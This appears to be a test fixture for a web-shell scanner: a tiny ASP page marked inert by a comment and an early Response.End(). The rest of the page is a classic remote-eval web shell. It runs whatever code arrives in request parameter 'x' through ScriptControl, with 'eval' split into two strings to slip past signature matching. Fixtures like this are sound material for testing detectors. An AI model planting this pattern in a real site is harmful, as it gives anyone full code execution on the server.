<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<%
set ms = server.CreateObject("MSScriptControl.ScriptControl.1")
ms.AddObject "request", request
ms.ExecuteStatement("ev" & "al(request(""x""))")
%>
